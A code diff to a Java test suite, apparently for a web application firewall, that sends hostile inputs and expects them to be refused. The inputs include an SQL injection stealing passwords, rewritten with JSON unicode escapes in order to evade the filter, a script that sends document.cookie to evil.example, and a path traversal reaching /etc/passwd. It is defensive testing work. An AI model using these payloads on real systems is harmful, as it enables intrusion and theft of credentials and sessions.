@@ -17,11 +17,14 @@ record Tour(ApiClient api, Report report) {
       """
       {"title": "", "description": "x", "category": "weather", "contactEmail": "nobody", "id": "1"}
       """;
+
+  /** Behind JSON's escapes, which the web ACL does not undo; without them it would refuse it. */
   private static final String HOSTILE =
       """
-      {"title": "Hello", "description": "' UNION SELECT password FROM users WHERE '1'='1' --",
+      {"title": "Hello", "description": "\\u0027 \\u0055NION \\u0053ELECT password FROM users WHERE '1'='1' --",
        "category": "bug", "contactEmail": "ann@example.com"}
       """;
+
   private static final String SCRIPT =
       """
       {"title": "<script>fetch('//evil.example/'+document.cookie)</script>", "description": "Hi",
@@ -73,6 +76,12 @@ record Tour(ApiClient api, Report report) {
   void writeToRead(DemoUser reader) throws IOException, InterruptedException {
     Answer write = reader.submit(UUID.randomUUID().toString(), HONEST);
     expect("writing with a token for reading", write, 403, "token", true);
+  }
+
+  /** Looks for a file of the server, as scanners do. */
+  void traversal(DemoUser ann) throws IOException, InterruptedException {
+    Answer refused = ann.get("/v1/submissions?cursor=../../../etc/passwd");
+    expect("a path traversal in the query", refused, 403, "waf", true);
   }
 
   /** Attacks so many times; the first of each kind is a step. */
